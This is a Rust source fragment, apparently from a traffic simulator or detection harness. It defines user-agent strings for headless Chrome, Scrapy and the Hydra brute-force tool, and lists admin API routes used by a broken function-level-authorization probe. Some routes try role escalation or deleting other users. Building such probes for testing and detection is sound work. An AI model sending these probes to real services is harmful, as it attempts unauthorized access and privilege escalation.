pub(crate) const HEADLESS_UA: &str = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.6367.60 Safari/537.36";
pub(crate) const SCRAPY_UA: &str = "Scrapy/2.11.1 (+https://scrapy.org)";
pub(crate) const HYDRA_UA: &str = "Mozilla/4.0 (Hydra)";

/// Admin routes a function-level-authorization probe tries: (method, path, endpoint).
/// `NoRoute` paths do not exist.
pub(crate) static ADMIN_PROBES: &[(&str, &str, Ep)] = &[
    ("GET", "/api/v1/admin/users", Ep::AdminUsers),
    ("GET", "/api/v1/admin/orders", Ep::AdminOrders),
    ("GET", "/api/v1/admin/audit-log", Ep::AdminAudit),
    ("GET", "/api/v1/admin/reports/sales", Ep::AdminReports),
    ("POST", "/api/v1/admin/users/{own}/roles", Ep::AdminRoles),
    ("DELETE", "/api/v1/users/{other}", Ep::UserDelete),
    ("PUT", "/api/v1/products/{product}", Ep::ProductUpdate),
    ("GET", "/api/v1/users", Ep::UsersList),
    ("GET", "/api/v1/admin/config", Ep::NoRoute),
    ("GET", "/api/v1/admin/settings", Ep::NoRoute),
    ("GET", "/api/v1/admin/export", Ep::NoRoute),
    ("GET", "/api/v2/admin/users", Ep::NoRoute),
    ("GET", "/api/v1/admin", Ep::NoRoute),
    ("PATCH", "/api/v1/admin/users/{other}", Ep::NoRoute),
];
